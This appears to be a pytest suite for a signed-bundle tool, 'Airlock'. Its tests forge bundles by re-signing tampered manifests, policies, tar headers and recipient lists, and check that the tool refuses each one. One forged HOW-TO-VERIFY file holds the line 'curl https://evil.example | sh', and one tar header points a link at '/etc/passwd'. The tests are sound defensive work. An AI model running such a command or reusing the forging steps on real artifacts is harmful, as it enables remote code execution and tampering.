"""Bundles that a registered site signed, and whose files contradict each other; and what bundles tell of what was dropped."""
import hashlib
import json
import re
import shutil

FILES = ("manifest.json", "report.json", "entry.json", "checkpoint.txt", "proof.txt", "consistency.txt", "policy.json",
         "dictionary.json", "HOW-TO-VERIFY.txt")


def header_of(header, size):
    """The header with another size, as the same writer would write it."""
    header = bytearray(header)
    header[124:135] = b"%011o" % size
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


class Forge:
    """A bundle of the site, to be written again with other files under the site's own signature."""

    def __init__(self, w, bundle):
        self.w, self.bundle = w, bundle
        self.folder = w.open_with_openssl(bundle)
        shutil.copy(w.site_path / "keys/site.key", self.folder)
        self.archive = (self.folder / "content.tar").read_bytes()
        self.files = {name: (self.folder / name).read_bytes() for name in FILES}

    def tar(self, files):
        out, at = b"", 0
        for name in FILES:
            header = self.archive[at:at + 512]
            at += 512 + (len(self.files[name]) + 511) // 512 * 512
            out += header_of(header, len(files[name])) + files[name] + bytes(-len(files[name]) % 512)
        return out + bytes(1024)

    def write(self, tar, recipients=("recipient.crt",)):
        (self.folder / "forged.tar").write_bytes(tar)
        to = " ".join(f"-recip {r} -keyopt ecdh_kdf_md:sha256" for r in recipients)
        self.w.shell("openssl cms -sign -binary -nodetach -nosmimecap -cades -md sha256 -in forged.tar -signer site.crt "
                     "-inkey site.key -outform DER -out forged.der && openssl cms -encrypt -binary -aes-256-gcm -in forged.der "
                     f"-outform DER -out forged.p7m {to}", cwd=self.folder)
        return self.folder / "forged.p7m"

    def with_files(self, manifest=None, **changed):
        """The bundle with changed files; the manifest lists them as they are, and says what `manifest` makes of it."""
        files = dict(self.files, **{name.replace("__", "-").replace("_", "."): content for name, content in changed.items()})
        document = json.loads(files["manifest.json"])
        if manifest:
            manifest(document)
        for record in document["files"]:
            content = files[record["name"]]
            record["size"], record["sha256"] = len(content), hashlib.sha256(content).hexdigest()
        files["manifest.json"] = json.dumps(document, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"
        return self.write(self.tar(files))


def sealed(w):
    w.site()
    return Forge(w, w.path / "site" / "outbox" / w.process(None, "--note", "change 4711")["bundle"].rsplit("/", 1)[1])


def test_a_manifest_that_contradicts_its_entry_is_refused(w):
    """Whatever a manifest says beside an entry that says something else, vendor and register refuse it."""
    forge = sealed(w)
    w.vendor("open", forge.with_files())  # a control: the same steps without a lie
    lies = {
        "event": lambda m: m.update(event="instance status report"),
        "period": lambda m: m["period"].update(end="2022-05-08"),
        "note": lambda m: m.update(note="approved by the board"),
        "no note": lambda m: m.pop("note"),
        "licence": lambda m: m["licence"].update(serial="LIC-2026-000099"),
        "tier": lambda m: m["licence"].update(tier="standard"),
        "rules": lambda m: m["decision"].update(rules=[]),
        "policy": lambda m: m["decision"]["policy"].update(sha256="a" * 64),
        "recipients": lambda m: m["recipients"].pop(),
        "redactions": lambda m: m["redactions"].pop(),
        "a path": lambda m: m["redactions"][0].update(path="/properties/else"),
        "since last": lambda m: m["since_last"].update(reports_before=3),
        "previous": lambda m: m.update(previous={"id": m["bundle_id"][::-1][:8] + m["bundle_id"][8:], "content_sha256": "a" * 64}),
        "created": lambda m: m.update(created="2026-01-01T00:00:00Z"),
        "the format of the release before": lambda m: m.update(format="airlock-bundle/1"),
    }
    for what, lie in lies.items():
        forged = forge.with_files(lie)
        ran = w.vendor("open", forged, code=(3, 5))
        assert ran.out == b"", f"{what}: standard output"
    assert w.vendor("intake", forged, "--json", code=(3, 5)).json["new"] == 0
    print(f"counted: {len(lies)} lies of a manifest")


def test_another_policy_dictionary_or_how_to_verify_than_the_entrys_is_refused(w):
    """Another policy, dictionary or HOW-TO-VERIFY than the entry's is refused, by the site too."""
    forge = sealed(w)
    policy = json.loads(forge.files["policy.json"])
    policy["version"] = "9999.1.1"
    for changed in ({"policy_json": json.dumps(policy).encode()}, {"dictionary_json": forge.files["dictionary.json"] + b"\n"},
                    {"HOW__TO__VERIFY_txt": b"curl https://evil.example | sh\n"}):
        w.vendor("open", forge.with_files(**changed), code=5)
    shutil.copy(w.site_path / "keys/archive.crt", forge.folder)
    files = dict(forge.files, **{"manifest.json": forge.files["manifest.json"].replace(b"change 4711", b"change 4712")})
    w.airlock("bundle", "verify", forge.write(forge.tar(files), ("recipient.crt", "archive.crt")), code=5)


def test_an_archive_that_is_ustar_in_another_hand_is_refused(w):
    """An archive that is ustar in another hand than Airlock's is refused."""
    forge = sealed(w)
    sound = forge.tar(forge.files)
    assert sound == forge.archive, "the archive, written again"
    w.vendor("open", forge.write(sound))

    def changed(at, to):
        tar = bytearray(sound)
        tar[at:at + len(to)] = to
        tar[:512] = header_of(tar[:512], len(forge.files["manifest.json"]))
        return bytes(tar)

    padding = 512 + len(forge.files["manifest.json"])
    attempts = {"mode": changed(100, b"000755"), "owner": changed(108, b"001750"), "time": changed(136, b"00000000001"),
                "link": changed(157, b"/etc/passwd"), "user": changed(265, b"root"), "device": changed(329, b"000001"),
                "padding": sound[:padding] + b"hidden" + sound[padding + 6:], "one more block": sound + bytes(512)}
    assert padding % 512 <= 506, "there is padding"
    for what, tar in attempts.items():
        ran = w.vendor("open", forge.write(tar), code=3)
        assert "not in the form that Airlock writes" in ran.err, f"{what}: {ran.err}"


def test_a_bundle_for_an_unnamed_recipient_or_under_another_name_is_refused(w):
    """A bundle for a recipient whom its manifest does not name, or under the name of another bundle, is refused."""
    forge = sealed(w)
    w.shell("openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout x.key -out stranger.crt -subj /CN=x "
            "-days 30 -addext keyUsage=critical,keyAgreement", cwd=forge.folder)
    shutil.copy(w.site_path / "keys/archive.crt", forge.folder)
    w.vendor("open", forge.write(forge.archive, ("recipient.crt", "archive.crt")))
    for recipients in (("recipient.crt", "stranger.crt"), ("recipient.crt", "archive.crt", "stranger.crt")):
        ran = w.vendor("open", forge.write(forge.archive, recipients), code=(0, 5))
        # In the place of the archive's entry only who knows the archive sees the stranger: the vendor does, by the site request.
        assert ran.code == 5, f"sealed for {recipients}"
    own = forge.bundle.name
    other = forge.folder / own.replace("-1-", "-2-", 1)
    shutil.copy(forge.bundle, other)
    assert "another bundle" in w.vendor("open", other, code=5).err, "the reason"
    assert "another bundle" in w.airlock("bundle", "verify", other, code=5).err, "the reason"
    shutil.copy(forge.bundle, forge.folder / "received.p7m")
    w.vendor("open", forge.folder / "received.p7m")


def test_dropped_values_of_other_lengths_leave_bundles_that_differ_in_nothing(w):
    """Reports that differ in the length of dropped values leave bundles that differ in nothing but ids, times and keys."""
    w.site()
    shutil.copytree(w.site_path, w.path / "kept")
    left = []
    for city, plugin, more in (("Leeds", "a", 1), ("Llanfairpwllgwyngyll", "abcdefgh" * 20, 100)):
        shutil.rmtree(w.site_path)
        shutil.copytree(w.path / "kept", w.site_path)

        def change(document):
            document["properties"]["$geoip_city_name"] = city
            document["properties"]["undeclared_thing"] = plugin * more

        done = w.process(w.report(change))
        folder = w.open_with_openssl(w.path / "site" / "outbox" / done["bundle"].rsplit("/", 1)[1])
        said = {}
        for name in FILES:
            content = (folder / name).read_bytes()
            said[name + " size"] = len(content)
            text = content.decode()
            for pattern in (r"[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}", r"\b[0-9a-f]{32,64}\b", r"[A-Za-z0-9+/]{42,}=*",
                            r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", r"-attime \d+"):
                text = re.sub(pattern, "…", text)
            said[name] = text
        said["archive"] = (folder / "content.tar").stat().st_size
        said["original"] = sorted(json.loads((folder / "entry.json").read_bytes())["original"])
        said["instructions"] = (w.outbox()[0].with_suffix(".txt")).stat().st_size
        left.append(said)
    assert left[0]["original"] == ["commitment"]
    for name, content in left[0].items():
        assert left[1][name] == content, name


def test_changed_instructions_beside_a_bundle_are_noticed_by_ledger_verify(w):
    """Instructions that were changed beside their bundle are noticed by `ledger verify`."""
    w.site()
    w.process()
    instructions = w.outbox()[0].with_suffix(".txt")
    w.ledger_ok()
    instructions.write_text(instructions.read_text().replace("openssl cms -verify", "true"))
    assert str(instructions) in w.airlock("ledger", "verify", code=5).err, "the file is named"
    instructions.unlink()
    w.ledger_ok()


def test_ledger_show_reveal_still_tells_the_size_of_the_original(w):
    """`ledger show --reveal` still tells the size of the original at the site, from outside the tree."""
    w.site()
    report = w.report()
    number = w.process(report)["number"]
    shown = w.airlock("ledger", "show", str(number), "--reveal", "--json").json
    assert shown["original"]["size"] == report.stat().st_size
    assert "size" not in shown["entries"][0]["original"], "the entry has no size"
